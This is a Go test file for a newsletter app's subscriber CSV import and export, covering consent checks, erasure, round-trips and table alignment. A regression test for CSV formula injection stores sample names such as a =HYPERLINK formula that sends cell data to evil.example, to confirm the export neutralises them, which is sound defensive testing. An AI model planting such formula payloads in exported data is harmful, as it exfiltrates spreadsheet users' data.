package newsletter

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"text/tabwriter"

	"github.com/bulletin-app/bulletin/internal/storetest"
	"github.com/bulletin-app/bulletin/internal/testtool"

	"github.com/bulletin-app/bulletin/store"
)

func TestImportCSV(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	open := func() *os.File {
		f, err := os.Open("testdata/import.csv")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { f.Close() })
		return f
	}
	// An import sends nothing: without the operator vouching, it refuses.
	if _, err := ImportCSV(ctx, st, open(), ImportOptions{}); !errors.Is(err, ErrImportNeedsConfirmed) {
		t.Fatalf("import without Confirmed: %v", err)
	}
	if n, _ := st.CountSubscribers(ctx); len(n) != 0 {
		t.Fatalf("a refused import stored %v", n)
	}
	// hal was erased: no import brings the address back.
	if _, _, err := st.AddSubscriber(ctx, "hal@example.org", "", store.StatusConfirmed); err != nil {
		t.Fatal(err)
	}
	if err := st.ForgetSubscriber(ctx, "hal@example.org"); err != nil {
		t.Fatal(err)
	}
	rep, err := ImportCSV(ctx, st, open(), ImportOptions{Confirmed: true})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Added != 4 || rep.Existing != 0 {
		t.Fatalf("report %+v", rep)
	}
	var lines []string
	for _, e := range rep.Invalid {
		lines = append(lines, fmt.Sprint(e.Line))
		if e.Err == nil || e.Err.Error() == "" {
			t.Errorf("line %d refused without a reason", e.Line)
		}
	}
	// not-an-address, bob as pending (nothing would confirm it), dee@nodot,
	// the name with a line break, the unknown status, the erased hal.
	if got := strings.Join(lines, " "); got != "3 4 7 8 10 12" {
		t.Fatalf("refused lines %v (%v)", lines, rep.Invalid)
	}
	if !strings.Contains(rep.Invalid[1].Err.Error(), "pending") || !strings.Contains(rep.Invalid[5].Err.Error(), "forget") {
		t.Errorf("reasons: %v", rep.Invalid)
	}
	for addr, want := range map[string]store.SubscriberStatus{
		"ann@example.org": store.StatusConfirmed,
		"cy@example.org":  store.StatusConfirmed,
		"bob@example.org": store.StatusConfirmed, // line 6, "Bob again", with no status
		"gil@example.org": store.StatusUnsubscribed,
	} {
		if s, err := st.SubscriberByEmail(ctx, addr); err != nil || s.Status != want {
			t.Errorf("%s: %+v %v, want %s", addr, s, err, want)
		}
	}
	if _, err := st.SubscriberByEmail(ctx, "hal@example.org"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("the erased hal is back: %v", err)
	}

	// An export reads back.
	var out bytes.Buffer
	n, err := ExportCSV(ctx, st, &out, "")
	if err != nil || n != 4 {
		t.Fatalf("export: %d %v\n%s", n, err, out.String())
	}
	st2 := openStore(t)
	rep2, err := ImportCSV(ctx, st2, &out, ImportOptions{Confirmed: true})
	if err != nil || rep2.Added != 4 || len(rep2.Invalid) != 0 {
		t.Fatalf("re-import of export: %+v %v", rep2, err)
	}
	if s, _ := st2.SubscriberByEmail(ctx, "gil@example.org"); s.Status != store.StatusUnsubscribed {
		t.Errorf("an unsubscribe was lost in export/import: %+v", s)
	}
	// Importing again keeps what is there.
	rep3, err := ImportCSV(ctx, st, open(), ImportOptions{Confirmed: true})
	if err != nil || rep3.Added != 0 || rep3.Existing != 4 {
		t.Fatalf("second import: %+v %v", rep3, err)
	}
}

// TestExportDefusesFormulas: a name such as =HYPERLINK(...) typed into the
// sign-up form was exported as is, and ran as a formula when the operator
// opened the file in a spreadsheet. Every cell that starts with =, +, -,
// @, tab or CR now starts with a single quote, read by Python's csv module
// (not ours); an import of the file reads back the values themselves.
func TestExportDefusesFormulas(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	names := map[string]string{
		"f1@example.org":    `=HYPERLINK("https://evil.example/?d="&A2,"Click")`,
		"f2@example.org":    "+1+2",
		"f3@example.org":    "-2+3",
		"f4@example.org":    "@SUM(1)",
		"f5@example.org":    "'=already quoted",
		"f6@example.org":    "O'Brien",
		"f7@example.org":    "'tis me",
		"f8@example.org":    "Plain Name",
		"-dash@example.org": "",
		"+plus@example.org": "",
	}
	for addr, name := range names {
		if _, _, err := st.AddSubscriber(ctx, addr, name, store.StatusConfirmed); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if _, err := ExportCSV(ctx, st, &out, ""); err != nil {
		t.Fatal(err)
	}
	python := testtool.NeedPython(t, "csv")
	cmd := exec.Command(python, "-c", `
import csv, json, sys
print(json.dumps([row for row in csv.reader(sys.stdin)]))`)
	cmd.Stdin = bytes.NewReader(out.Bytes())
	res, err := cmd.Output()
	if err != nil {
		t.Fatalf("python csv: %v", err)
	}
	var rows [][]string
	if err := json.Unmarshal(res, &rows); err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(names)+1 {
		t.Fatalf("%d rows read by Python, want %d:\n%s", len(rows), len(names)+1, out.String())
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	st2 := openStore(t)
	if rep, err := ImportCSV(ctx, st2, &out, ImportOptions{Confirmed: true}); err != nil || rep.Added != len(names) {
		t.Fatalf("import of the export: %+v %v", rep, err)
	}
	for addr, name := range names {
		s, err := st2.SubscriberByEmail(ctx, addr)
		if err != nil || s.Name != name {
			t.Errorf("%s: imported %q (%v), exported %q", addr, s.Name, err, name)
		}
	}
}

// The streaming list is aligned as text/tabwriter aligns the whole table.
func TestWriteListAlignsAsTabwriter(t *testing.T) {
	ctx := context.Background()
	st := storetest.Open(t)
	for _, s := range []struct{ email, name string }{
		{"a@example.org", "Ünïcode Náme"}, {"much.longer.address@example.org", ""}, {"b@example.org", "Bo"},
	} {
		if _, err := AddSubscriber(ctx, st, s.email, s.name, true); err != nil {
			t.Fatal(err)
		}
	}
	if _, _, err := st.AddSubscriber(ctx, "gone@example.org", "Gone", store.StatusUnsubscribed); err != nil {
		t.Fatal(err)
	}
	for _, status := range []string{"", "confirmed", "bounced"} {
		var want bytes.Buffer
		tw := tabwriter.NewWriter(&want, 0, 4, 2, ' ', 0)
		fmt.Fprintln(tw, "EMAIL\tNAME\tSTATUS\tSINCE\tLAST BOUNCE OR COMPLAINT")
		if err := ListSubscribersWithBounces(ctx, st, status, func(s store.Subscriber, b *store.SubscriberBounces) error {
			_, err := fmt.Fprintf(tw, "%s\t%s\t%s\t%s\t%s\n", s.Email, s.Name, s.Status, s.CreatedAt.Format("2006-01-02"), lastBounce(b))
			return err
		}); err != nil {
			t.Fatal(err)
		}
		tw.Flush()
		var got bytes.Buffer
		if _, err := WriteList(ctx, st, &got, status); err != nil {
			t.Fatal(err)
		}
		if got.String() != want.String() {
			t.Errorf("status %q:\n%s\nwant\n%s", status, got.String(), want.String())
		}
	}
}
